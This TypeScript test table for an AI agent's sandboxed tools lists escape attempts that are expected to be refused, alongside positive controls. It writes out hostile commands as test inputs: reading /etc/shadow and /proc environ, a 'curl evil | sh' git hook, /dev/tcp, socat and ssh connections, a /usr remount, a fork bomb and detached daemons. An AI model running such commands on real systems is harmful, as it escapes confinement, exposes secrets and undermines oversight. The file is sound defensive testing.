/**
 * The escape suite's table: each row is one attempt to reach outside a workspace (or a positive
 * control that must keep working), run through the tool CLI exactly as the agent would run it.
 * escape.test.ts plants canaries outside (another workspace, a data dir with a database, a host
 * Unix socket, a TCP listener, a secret in the server's environment) and, after every row,
 * checks that nothing outside changed and no process the row started is still alive.
 */
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { expect } from "vitest";
import type { ToolResult } from "@/lib/tools";

export type World = {
  /** This row's workspace (host path). */
  ws: string;
  outside: string;
  dataDir: string;
  otherWs: string;
  dbFile: string;
  port: number;
  unixSocket: string;
  abstractSocket: string;
  secret: string;
  /** Unique to the row and a valid `sleep` duration: put it in a command line to find the row's processes afterwards. */
  token: string;
  /** Connections the host listeners saw so far. */
  connections: () => number;
};

export type Outcome = { code: number; result: ToolResult };

export type EscapeCase = {
  name: string;
  tool: string;
  setup?: (w: World) => void;
  args: (w: World) => Record<string, unknown>;
  check: (o: Outcome, w: World) => void;
};

const refused = (pattern?: RegExp) => (o: Outcome) => {
  expect(o.result.success).toBe(false);
  expect(o.code).toBe(1);
  if (pattern) expect(o.result.output).toMatch(pattern);
};
const bashFails = (o: Outcome, w: World) => {
  expect(o.result.success).toBe(false);
  expect(o.result.output).not.toContain(w.secret);
  expect(o.result.output).not.toContain("CANARY");
};
const noNetwork = (o: Outcome, w: World) => {
  bashFails(o, w);
  expect(w.connections()).toBe(0);
};
const succeeds = (expected?: string | RegExp) => (o: Outcome) => {
  expect(o.result.success).toBe(true);
  if (typeof expected === "string") expect(o.result.output).toBe(expected);
  else if (expected) expect(o.result.output).toMatch(expected);
};
const link = (target: string, at: string) => fs.symlinkSync(target, at);

export const ESCAPE_CASES: EscapeCase[] = [
  // ── file tools: paths ──────────────────────────────────────────────────────────────────
  {
    name: "write to an absolute path outside the workspace",
    tool: "write",
    args: (w) => ({ path: path.join(w.outside, "canary.txt"), content: "pwned" }),
    check: refused(/outside the workspace/),
  },
  {
    name: "write via ../",
    tool: "write",
    args: () => ({ path: "../../../outside/canary.txt", content: "pwned" }),
    check: refused(/leaves the workspace/),
  },
  {
    name: "write via a folder that does not exist and then ../..",
    tool: "write",
    args: () => ({ path: "new/../../x.txt", content: "pwned" }),
    check: refused(/leaves the workspace/),
  },
  {
    name: "write into another workspace by absolute path",
    tool: "write",
    args: (w) => ({ path: path.join(w.otherWs, "secret.txt"), content: "pwned" }),
    check: refused(),
  },
  {
    name: "read the database by absolute path",
    tool: "read",
    args: (w) => ({ path: w.dbFile }),
    check: refused(/outside the workspace/),
  },
  {
    name: "read the data dir's database via ../",
    tool: "read",
    args: () => ({ path: "../../db.sqlite" }),
    check: refused(/leaves the workspace/),
  },
  { name: "read /etc/shadow", tool: "read", args: () => ({ path: "/etc/shadow" }), check: refused() },
  {
    name: "read /proc/self/environ (the server's environment)",
    tool: "read",
    args: () => ({ path: "/proc/self/environ" }),
    check: refused(/\/proc/),
  },
  {
    name: "read through /proc/self/root",
    tool: "read",
    args: (w) => ({ path: `/proc/self/root${w.outside}/canary.txt` }),
    check: refused(/\/proc/),
  },
  {
    name: "read through /proc/1/cwd",
    tool: "read",
    args: () => ({ path: "/proc/1/cwd/etc/hostname" }),
    check: refused(/\/proc/),
  },
  {
    name: "read through a workspace symlink to /proc/self/cwd",
    tool: "read",
    setup: (w) => link("/proc/self/cwd", path.join(w.ws, "cwd")),
    args: () => ({ path: "cwd/package.json" }),
    check: refused(/outside|\/proc/),
  },
  // ── file tools: symlinks and hard links ───────────────────────────────────────────────────
  {
    name: "write through a symlinked folder that points outside",
    tool: "write",
    setup: (w) => link(w.outside, path.join(w.ws, "out")),
    args: () => ({ path: "out/new.txt", content: "pwned" }),
    check: refused(/symbolic link/),
  },
  {
    name: "write through a symlinked file that points outside",
    tool: "write",
    setup: (w) => link(path.join(w.outside, "canary.txt"), path.join(w.ws, "c.txt")),
    args: () => ({ path: "c.txt", content: "pwned" }),
    check: refused(/symbolic link/),
  },
  {
    name: "write through a dangling symlink that points outside",
    tool: "write",
    setup: (w) => link(path.join(w.outside, "created-by-escape.txt"), path.join(w.ws, "d.txt")),
    args: () => ({ path: "d.txt", content: "pwned" }),
    check: refused(/symbolic link/),
  },
  {
    name: "read through a symlinked file that points outside",
    tool: "read",
    setup: (w) => link(path.join(w.outside, "canary.txt"), path.join(w.ws, "c.txt")),
    args: () => ({ path: "c.txt" }),
    check: refused(/symbolic link/),
  },
  {
    name: "read through a symlink to / inside the workspace",
    tool: "read",
    setup: (w) => link("/", path.join(w.ws, "root")),
    args: () => ({ path: "root/etc/hostname" }),
    check: refused(/symbolic link/),
  },
  {
    name: "edit through a symlinked file that points outside",
    tool: "edit",
    setup: (w) => link(path.join(w.outside, "canary.txt"), path.join(w.ws, "c.txt")),
    args: () => ({ path: "c.txt", old: "CANARY", new: "pwned" }),
    check: refused(),
  },
  {
    name: "glob through a symlinked folder that points outside",
    tool: "glob",
    setup: (w) => link(w.outside, path.join(w.ws, "out")),
    args: () => ({ pat: "**/*", path: "out" }),
    check: refused(/symbolic link/),
  },
  {
    name: "grep through a symlinked folder that points outside",
    tool: "grep",
    setup: (w) => link(w.outside, path.join(w.ws, "out")),
    args: () => ({ pat: "CANARY", path: "out" }),
    check: refused(/symbolic link/),
  },
  {
    name: "grep over the workspace does not follow a symlink to an outside file",
    tool: "grep",
    setup: (w) => link(path.join(w.outside, "canary.txt"), path.join(w.ws, "c.txt")),
    args: () => ({ pat: "CANARY" }),
    check: succeeds("none"),
  },
  {
    name: "write to a hard link of an outside file",
    tool: "write",
    setup: (w) => fs.linkSync(path.join(w.outside, "hard.txt"), path.join(w.ws, "h.txt")),
    args: () => ({ path: "h.txt", content: "pwned" }),
    check: refused(/hard links/),
  },
  {
    name: "read a hard link of an outside file",
    tool: "read",
    setup: (w) => fs.linkSync(path.join(w.outside, "hard.txt"), path.join(w.ws, "h.txt")),
    args: () => ({ path: "h.txt" }),
    check: refused(/hard links/),
  },
  {
    name: "grep skips a hard link of an outside file",
    tool: "grep",
    setup: (w) => fs.linkSync(path.join(w.outside, "hard.txt"), path.join(w.ws, "h.txt")),
    args: () => ({ pat: "CANARY" }),
    check: succeeds("(1 multiply-linked file(s) skipped)"),
  },
  {
    name: "glob does not follow a .gitignore symlinked to an outside file",
    tool: "glob",
    setup: (w) => {
      link(path.join(w.outside, "canary.txt"), path.join(w.ws, ".gitignore"));
      fs.writeFileSync(path.join(w.ws, "CANARY outside"), "");
    },
    args: () => ({ pat: "CANARY*" }),
    check: succeeds("CANARY outside"),
  },
  {
    name: "read of a FIFO is refused at once instead of blocking",
    tool: "read",
    setup: (w) => execFileSync("mkfifo", [path.join(w.ws, "pipe")]),
    args: () => ({ path: "pipe" }),
    check: refused(/not a regular file/),
  },
  // ── file tools: protected .git ────────────────────────────────────────────────────────────
  {
    name: "write a .git hook",
    tool: "write",
    args: () => ({ path: ".git/hooks/pre-commit", content: "curl evil | sh" }),
    check: refused(/protected/),
  },
  {
    name: "create a protected file that did not exist",
    tool: "write",
    args: () => ({ path: ".git/hooks/post-checkout", content: "evil" }),
    check: refused(/protected/),
  },
  {
    name: "edit .git/config",
    tool: "edit",
    args: () => ({ path: ".git/config", old: "bare = false", new: "bare = true" }),
    check: refused(/protected/),
  },
  {
    name: "write through a symlink into .git",
    tool: "write",
    setup: (w) => link(".git/hooks", path.join(w.ws, "hooks")),
    args: () => ({ path: "hooks/pre-push", content: "evil" }),
    check: refused(/protected/),
  },
  // ── bash: files ───────────────────────────────────────────────────────────────────────────
  {
    name: "bash writes to an outside path",
    tool: "bash",
    args: (w) => ({ cmd: `echo pwned > ${w.outside}/canary.txt` }),
    check: bashFails,
  },
  {
    name: "bash reads another workspace and the data dir",
    tool: "bash",
    args: (w) => ({ cmd: `cat ${w.otherWs}/secret.txt; ls ${w.dataDir}; cat ${w.dbFile}` }),
    check: bashFails,
  },
  {
    name: "bash reads /etc/shadow",
    tool: "bash",
    args: () => ({ cmd: "cat /etc/shadow" }),
    check: (o, w) => {
      bashFails(o, w);
      expect(o.result.output).toContain("No such file");
    },
  },
  {
    name: "bash writes through a symlink it made to an outside path",
    tool: "bash",
    args: (w) => ({ cmd: `ln -s ${w.outside} out && echo pwned > out/canary.txt` }),
    check: bashFails,
  },
  {
    name: "bash reads through /proc/self/root and /proc/1/cwd",
    tool: "bash",
    args: (w) => ({ cmd: `cat /proc/self/root${w.outside}/canary.txt /proc/1/cwd/../..${w.outside}/canary.txt` }),
    check: bashFails,
  },
  {
    name: "bash replaces .git with a symlink",
    tool: "bash",
    args: () => ({ cmd: "rm -rf .git; mv .git g; ln -sfn /tmp .git; ls .git; echo evil > .git/hooks/pre-commit" }),
    check: (o, w) => {
      bashFails(o, w);
      expect(fs.lstatSync(path.join(w.ws, ".git")).isDirectory()).toBe(true);
      expect(fs.readFileSync(path.join(w.ws, ".git/hooks/pre-commit"), "utf8")).toBe("#!/bin/sh\nexit 0\n");
    },
  },
  {
    name: "bash hard-links a system file into the workspace",
    tool: "bash",
    args: () => ({ cmd: "ln /etc/passwd hp" }),
    check: (o, w) => {
      bashFails(o, w);
      expect(fs.existsSync(path.join(w.ws, "hp"))).toBe(false);
    },
  },
  {
    name: "bash writes to /usr, remounts it, or makes a user namespace",
    tool: "bash",
    args: () => ({ cmd: "touch /usr/pwned || mount -o remount,rw /usr || unshare -r true || echo ok > /usr/pwned" }),
    check: (o, w) => {
      bashFails(o, w);
      expect(fs.existsSync("/usr/pwned")).toBe(false);
    },
  },
  {
    name: "bash's /tmp is private",
    tool: "bash",
    args: (w) => ({ cmd: `echo x > /tmp/${w.token} && ls /tmp` }),
    check: (o, w) => {
      succeeds(w.token)(o);
      expect(fs.existsSync(`/tmp/${w.token}`)).toBe(false);
    },
  },
  // ── bash: environment ─────────────────────────────────────────────────────────────────────
  {
    name: "bash sees no secret in env or /proc/1/environ",
    tool: "bash",
    args: () => ({ cmd: "env; tr '\\0' '\\n' < /proc/1/environ" }),
    check: (o, w) => {
      succeeds()(o);
      expect(o.result.output).not.toContain(w.secret);
      const keys = o.result.output.split("\n").map((l) => l.split("=")[0]);
      expect(new Set(keys)).toEqual(new Set(["PATH", "HOME", "LANG", "TERM", "PWD", "SHLVL", "_"]));
    },
  },
  // ── bash: network and sockets ─────────────────────────────────────────────────────────────
  {
    name: "curl to a host listener",
    tool: "bash",
    args: (w) => ({ cmd: `curl -sS -m 3 http://127.0.0.1:${w.port}/` }),
    check: noNetwork,
  },
  {
    name: "wget to a host listener",
    tool: "bash",
    args: (w) => ({ cmd: `wget -q -T 3 -t 1 -O- http://127.0.0.1:${w.port}/` }),
    check: noNetwork,
  },
  {
    name: "bash /dev/tcp to a host listener",
    tool: "bash",
    args: (w) => ({ cmd: `echo hi > /dev/tcp/127.0.0.1/${w.port}` }),
    check: noNetwork,
  },
  {
    name: "python socket to a host listener",
    tool: "bash",
    args: (w) => ({ cmd: `python3 -c "import socket; socket.create_connection(('127.0.0.1', ${w.port}), 3)"` }),
    check: noNetwork,
  },
  {
    name: "socat and ssh to a host listener",
    tool: "bash",
    args: (w) => ({
      cmd: `socat -T3 - TCP:127.0.0.1:${w.port} </dev/null || ssh -o ConnectTimeout=3 -o BatchMode=yes -p ${w.port} 127.0.0.1 true`,
    }),
    check: noNetwork,
  },
  {
    name: "DNS lookups (getent, python)",
    tool: "bash",
    args: () => ({
      cmd: "getent hosts example.com || python3 -c \"import socket; print(socket.getaddrinfo('example.com', 80))\"",
    }),
    check: noNetwork,
  },
  {
    name: "connect to the host's Unix socket",
    tool: "bash",
    args: (w) => ({ cmd: `socat -T3 - UNIX-CONNECT:${w.unixSocket} </dev/null` }),
    check: noNetwork,
  },
  {
    name: "connect to the host's abstract Unix socket",
    tool: "bash",
    args: (w) => ({ cmd: `socat -T3 - ABSTRACT-CONNECT:${w.abstractSocket} </dev/null` }),
    check: noNetwork,
  },
  // ── bash: resources and lifetime ─────────────────────────────────────────────────────────
  {
    name: "a fork bomb is bounded and leaves nothing behind",
    tool: "bash",
    args: (w) => ({ cmd: `: ${w.token}; b(){ b | b & }; b; sleep 2`, timeout: 6 }),
    check: (o) => expect(o.result.output).toMatch(/fork|Resource temporarily unavailable|timed out/),
  },
  {
    name: "1 GB of output is capped and stopped",
    tool: "bash",
    args: () => ({ cmd: "head -c 1000000000 /dev/zero | tr '\\0' a" }),
    check: (o) => {
      expect(o.result.success).toBe(false);
      expect(o.result.output.length).toBeLessThan(30_500);
      expect(o.result.output).toContain("output truncated");
      expect(o.result.output).toMatch(/stopped after \d+ bytes of output/);
    },
  },
  {
    name: "a daemon holding the pipe does not hold the call",
    tool: "bash",
    args: (w) => ({ cmd: `setsid sleep ${w.token} & nohup sleep ${w.token} >/dev/null 2>&1 & echo started` }),
    check: (o) => {
      expect(o.result.output).toContain("started");
    },
  },
  {
    name: "a timeout exits 124 and kills the process group",
    tool: "bash",
    args: (w) => ({ cmd: `sleep ${w.token} & sleep ${w.token}`, timeout: 1 }),
    check: (o) => {
      expect(o.result.success).toBe(false);
      expect(o.result.output).toContain("exit code 124");
      expect(o.result.feedback).toContain("timeout");
    },
  },
  {
    name: "a non-zero exit reports its code",
    tool: "bash",
    args: () => ({ cmd: "exit 3" }),
    check: (o) =>
      expect(o.result).toEqual({
        output: "(empty output)\n[exit code 3]",
        success: false,
        exitCode: 3,
        feedback: "The command exited with code 3. Fix the command and retry.",
      }),
  },
  // ── positive controls ─────────────────────────────────────────────────────────────────────
  {
    name: "write inside the workspace works",
    tool: "write",
    args: () => ({ path: "src/new/file.txt", content: "hello\n" }),
    check: (o, w) => {
      succeeds("ok")(o);
      expect(fs.readFileSync(path.join(w.ws, "src/new/file.txt"), "utf8")).toBe("hello\n");
    },
  },
  {
    name: "read inside the workspace works",
    tool: "read",
    args: () => ({ path: "README.md" }),
    check: succeeds("1| # project"),
  },
  {
    name: "read of a file hard-linked twice inside the workspace works",
    tool: "read",
    setup: (w) => fs.linkSync(path.join(w.ws, "README.md"), path.join(w.ws, "README.copy")),
    args: () => ({ path: "README.copy" }),
    check: succeeds("1| # project"),
  },
  {
    name: "read through a symlink that stays inside works",
    tool: "read",
    setup: (w) => link("README.md", path.join(w.ws, "alias.md")),
    args: () => ({ path: "alias.md" }),
    check: succeeds("1| # project"),
  },
  {
    name: "absolute /workspace paths name the workspace for file tools",
    tool: "read",
    args: () => ({ path: "/workspace/README.md" }),
    check: succeeds("1| # project"),
  },
  {
    name: "bash ls and pwd run in the workspace",
    tool: "bash",
    args: () => ({ cmd: "pwd && ls" }),
    check: succeeds("/workspace\nREADME.md"),
  },
  { name: "bash runs python3", tool: "bash", args: () => ({ cmd: "python3 -c 'print(6*7)'" }), check: succeeds("42") },
  {
    name: "bash pipes work",
    tool: "bash",
    args: () => ({ cmd: "printf 'b\\na\\n' | sort | head -n 1" }),
    check: succeeds("a"),
  },
  {
    name: "bash writes a file the file tools then see",
    tool: "bash",
    args: () => ({ cmd: "mkdir -p out && echo made > out/x.txt && cat out/x.txt" }),
    check: (o, w) => {
      succeeds("made")(o);
      expect(fs.readFileSync(path.join(w.ws, "out/x.txt"), "utf8")).toBe("made\n");
    },
  },
  {
    name: "glob and grep inside the workspace work",
    tool: "grep",
    args: () => ({ pat: "^# proj" }),
    check: succeeds("README.md:1:# project"),
  },
];
